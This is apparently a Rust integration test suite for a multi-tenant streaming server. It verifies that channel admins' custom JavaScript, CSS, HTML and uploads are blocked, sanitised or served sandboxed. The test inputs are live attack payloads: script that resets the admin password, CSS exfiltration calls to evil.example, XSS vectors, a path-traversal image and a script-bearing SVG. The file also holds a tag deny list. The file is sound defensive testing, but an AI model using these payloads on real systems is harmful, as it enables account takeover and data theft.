//! Channels are tenants (issue 52, finding 1): what a channel admin sets or uploads never runs script,
//! loads from elsewhere or acts in castd's origin in another tenant's or the server admin's name.
//!
//! - Custom JavaScript is the server admin's alone: on a channel the setter is 403 (whoever calls), and
//!   a value a channel's settings already hold (an older castd, an import) is never served.
//! - A channel's custom CSS and appearance variables load nothing from elsewhere (`@import`, `url()`
//!   but the channel's own uploads, `image-set`, `expression`, `behavior`, `-moz-binding`, `</style`).
//! - A channel's offline message, extra page content and external actions' HTML are sanitised: no
//!   script, handler, `javascript:`/`data:` URL, form, frame, object, embed, base, meta, link or style,
//!   and no `src`/`href` to castd's admin API.
//! - Every route serving a channel admin's upload (logo, favicon, emoji, `/public/*`) answers with the
//!   upload sandbox, `nosniff`, and an inert type (never HTML or script).

mod common;

use base64::Engine;
use common::Server;
use serde_json::{json, Value};

const SLUG: &str = "tenant";

fn message(r: reqwest::blocking::Response) -> (u16, Value) {
    let status = r.status().as_u16();
    (status, r.json().unwrap_or_default())
}

#[test]
fn custom_javascript_is_the_server_admins_alone() {
    let mut server = Server::start();
    let hostile = "fetch('/api/admin/config/adminpass',{method:'POST',body:JSON.stringify({value:'owned'})})";
    {
        let ch = server.channel(SLUG);
        // The channel admin is refused, with a StatusResponse saying why.
        let (status, body) = message(ch.admin_post("/api/admin/config/customjavascript", &json!({ "value": hostile })));
        assert_eq!(status, 403, "{body}");
        assert_eq!(body["success"], false, "{body}");
        assert!(
            body["message"].as_str().unwrap_or_default().contains("only for the server admin"),
            "the refusal says why: {body}"
        );
        // The server admin on the channel's API too: a channel's page never runs custom JavaScript.
        let (status, body) = message(
            server.admin_post(&format!("/c/{SLUG}/api/admin/config/customjavascript"), &json!({ "value": hostile })),
        );
        assert_eq!(status, 403, "{body}");
        assert_eq!(ch.admin_json("/api/admin/serverconfig")["instanceDetails"]["customJavascript"], "");
        assert_eq!(ch.get("/customjavascript").text().unwrap(), "");
    }
    // The default channel is Owncast's: the server admin's script is served.
    server.set("customjavascript", json!("window.serverAdmins = 1;"));
    assert_eq!(server.get("/customjavascript").text().unwrap(), "window.serverAdmins = 1;");

    // A value already in a channel's settings (an older castd, an import) is never served.
    let db = server.channel(SLUG).db_path();
    server.stop();
    {
        let conn = rusqlite::Connection::open(&db).unwrap();
        conn.execute(
            "INSERT INTO settings (key, value) VALUES ('customJavascript', ?1) \
             ON CONFLICT(key) DO UPDATE SET value = excluded.value",
            [serde_json::to_string(hostile).unwrap()],
        )
        .unwrap();
    }
    let server = server.restart();
    let ch = server.channel(SLUG);
    assert_eq!(
        ch.admin_json("/api/admin/serverconfig")["instanceDetails"]["customJavascript"],
        hostile,
        "the stored value was loaded (the test wrote what an older castd would have)"
    );
    let r = ch.get("/customjavascript");
    assert_eq!(r.status(), 200);
    assert!(r.headers()["content-type"].to_str().unwrap().contains("javascript"));
    assert_eq!(r.text().unwrap(), "", "a channel's /customjavascript is empty whatever its settings hold");
    assert_eq!(server.get("/customjavascript").text().unwrap(), "window.serverAdmins = 1;");
}

#[test]
fn a_channels_css_loads_nothing_from_elsewhere() {
    let server = Server::start();
    let ch = server.channel(SLUG);
    let css = concat!(
        "@import url(https://evil.example/a.css);\n@import 'https://evil.example/b.css';\n",
        "input[value^=a]{background:url(https://evil.example/leak?a)}\n",
        "body{background:u\\72l(//evil.example/t);cursor:URL( \"https://evil.example/c\" ), auto}\n",
        "h1{background-image:image-set(\"https://evil.example/i\" 1x);width:expression(alert(1))}\n",
        "p{behavior:url(x.htc);-moz-binding:url(x.xml#x)}\n",
        "</style><script>alert(1)</script>\n",
        "h2{background:url(/c/tenant/public/bg.png);color:red}\n",
    );
    ch.set("customstyles", json!(css));
    ch.set("appearance", json!({"--theme-color-background": "url(https://evil.example/v)", "--theme-text": "#123"}));
    let config = ch.get_json("/api/config");
    let out = config["customStyles"].as_str().unwrap().to_ascii_lowercase();
    for bad in ["@import", "evil.example/a", "leak", "u\\72l", "//evil.example/t", ":image-set(", ":expression(", "<"] {
        assert!(!out.contains(bad), "{bad} in the served CSS: {out}");
    }
    assert_eq!(out.matches("url(").count(), 1, "only the channel's own upload: {out}");
    assert!(out.contains("url(\"/c/tenant/public/bg.png\")"), "{out}");
    assert!(out.contains("color:red"), "harmless CSS is kept: {out}");
    assert!(!out.contains("behavior:url") && !out.contains(";-moz-binding"), "{out}");
    assert_eq!(config["appearanceVariables"]["--theme-color-background"], "none");
    assert_eq!(config["appearanceVariables"]["--theme-text"], "#123");
    // What the admin wrote is kept as written (their own page shows it); only what is served is confined.
    assert_eq!(ch.admin_json("/api/admin/serverconfig")["instanceDetails"]["customStyles"], css);
    // The default channel's CSS is the server admin's, served as set (Owncast).
    server.set("customstyles", json!("@import url(https://fonts.example/f.css);"));
    assert_eq!(server.get_json("/api/config")["customStyles"], "@import url(https://fonts.example/f.css);");
}

#[test]
fn a_channels_html_is_sanitised() {
    let server = Server::start();
    let ch = server.channel(SLUG);
    let hostile = concat!(
        "**Hi** <script>fetch('/api/admin/config/adminpass')</script>",
        "<img src=x onerror=\"alert(1)\"><img src=\"/img/emoji/%2e%2e/%2e%2e/api/admin/disconnect\">",
        "<img src=\"/c/other/api/admin/status\"><a href=\"javascript:alert(1)\">j</a>",
        "<a href=\"data:text/html,<script>alert(1)</script>\">d</a>",
        "<form action=\"/api/admin/config/adminpass\" method=post><input name=value><button>go</button></form>",
        "<iframe src=\"/admin/\"></iframe><object data=\"/x\"></object><embed src=\"/x\">",
        "<base href=\"//evil.example/\"><meta http-equiv=\"refresh\" content=\"0;url=//evil.example\">",
        "<link rel=stylesheet href=\"//evil.example/x.css\"><style>body{display:none}</style>",
        "<p style=\"background:url(//evil.example/p)\" onclick=\"x()\">kept text</p>",
        "<a href=\"https://example.com/ok\">fine link</a>",
    );
    ch.set("offlinemessage", json!(hostile));
    ch.set("pagecontent", json!(hostile));
    ch.set(
        "externalactions",
        json!([{"url": "", "html": hostile, "title": "T", "description": "", "icon": "/api/admin/disconnect",
                "color": "", "openExternally": false}]),
    );
    let config = ch.get_json("/api/config");
    let served = [
        ("offlineMessage", config["offlineMessage"].as_str().unwrap().to_string()),
        ("extraPageContent", config["extraPageContent"].as_str().unwrap().to_string()),
        ("externalActions[0].html", config["externalActions"][0]["html"].as_str().unwrap().to_string()),
    ];
    for (field, html) in &served {
        let lower = html.to_ascii_lowercase();
        for bad in [
            "<script",
            "onerror",
            "onclick",
            "javascript:",
            "data:",
            "<form",
            "<input name",
            "<iframe",
            "<object",
            "<embed",
            "<base",
            "<meta",
            "<link",
            "<style",
            "style=",
            "api/admin",
            "%2e%2e",
        ] {
            assert!(!lower.contains(bad), "{bad} survived in {field}: {html}");
        }
        assert!(html.contains("kept text") && html.contains("https://example.com/ok"), "{field}: {html}");
    }
    assert!(served[0].1.contains("<strong>Hi</strong>"), "Markdown still renders: {}", served[0].1);
    assert_eq!(config["externalActions"][0]["icon"], "", "an icon on the admin API is dropped");
    // The default channel's Markdown is the server admin's: inline HTML kept (Owncast).
    server.set("pagecontent", json!("<details><summary>s</summary>x</details>"));
    assert!(server.get_json("/api/config")["extraPageContent"].as_str().unwrap().contains("<details>"));
}

fn assert_sandboxed(r: reqwest::blocking::Response, what: &str) -> String {
    assert_eq!(r.status(), 200, "{what}");
    let h = r.headers();
    let csp = h.get("content-security-policy").map(|v| v.to_str().unwrap().to_string()).unwrap_or_default();
    assert!(csp.starts_with("sandbox") && csp.contains("default-src 'none'"), "{what}: CSP {csp:?}");
    assert!(!csp.contains("script-src"), "{what}: no script source: {csp}");
    assert_eq!(h.get("x-content-type-options").map(|v| v.to_str().unwrap()), Some("nosniff"), "{what}");
    let ctype = h.get("content-type").map(|v| v.to_str().unwrap().to_string()).unwrap_or_default();
    for bad in ["html", "javascript", "ecmascript", "xml+", "/xml", "css"] {
        if ctype == "image/svg+xml" {
            break;
        }
        assert!(!ctype.contains(bad), "{what}: type {ctype}");
    }
    ctype
}

#[test]
fn every_upload_of_a_channel_is_served_sandboxed_and_inert() {
    let server = Server::start();
    let ch = server.channel(SLUG);
    let svg = "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>fetch('/api/admin/disconnect')</script></svg>";
    let b64 = |b: &[u8]| base64::engine::general_purpose::STANDARD.encode(b);
    let r = ch.admin_post(
        "/api/admin/config/logo",
        &json!({ "value": format!("data:image/svg+xml;base64,{}", b64(svg.as_bytes())) }),
    );
    assert_eq!(r.status(), 200, "{}", r.text().unwrap_or_default());
    let png = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR fake but typed".to_vec();
    let r = ch.admin_post("/api/admin/emoji/upload", &json!({ "name": "party", "data": b64(&png) }));
    assert!(r.status().is_success(), "{}", r.status());
    let favicon = reqwest::blocking::multipart::Form::new().part(
        "favicon",
        reqwest::blocking::multipart::Part::bytes(png.clone()).file_name("f.png").mime_str("text/html").unwrap(),
    );
    let r = ch
        .client
        .post(ch.url("/api/admin/config/favicon"))
        .basic_auth("admin", Some(&ch.admin_password))
        .multipart(favicon)
        .send()
        .unwrap();
    assert_eq!(r.status(), 200);
    // Files a channel admin put in the channel's public folder.
    let public = ch.data_dir.join("public");
    std::fs::create_dir_all(&public).unwrap();
    std::fs::write(public.join("page.html"), "<script>fetch('/api/admin/disconnect')</script>").unwrap();
    std::fs::write(public.join("lib.js"), "fetch('/api/admin/disconnect')").unwrap();
    std::fs::write(public.join("x.xhtml"), "<html xmlns=\"http://www.w3.org/1999/xhtml\"><script>1</script></html>")
        .unwrap();
    std::fs::write(public.join("a.svg"), svg).unwrap();
    std::fs::write(public.join("bg.png"), &png).unwrap();

    assert_eq!(assert_sandboxed(ch.get("/logo"), "logo"), "image/svg+xml");
    assert_sandboxed(ch.get("/logo/external"), "logo/external");
    assert_eq!(assert_sandboxed(ch.get("/favicon.ico"), "favicon"), "image/png");
    assert_eq!(assert_sandboxed(ch.get("/img/emoji/party.png"), "emoji"), "image/png");
    assert_eq!(assert_sandboxed(ch.get("/public/bg.png"), "public png"), "image/png");
    assert_eq!(assert_sandboxed(ch.get("/public/a.svg"), "public svg"), "image/svg+xml");
    for (file, what) in [("page.html", "public html"), ("lib.js", "public js"), ("x.xhtml", "public xhtml")] {
        let r = ch.get(&format!("/public/{file}"));
        let disposition =
            r.headers().get("content-disposition").map(|v| v.to_str().unwrap().to_string()).unwrap_or_default();
        assert_eq!(assert_sandboxed(r, what), "application/octet-stream", "{what}");
        assert_eq!(disposition, "attachment", "{what}");
    }
}
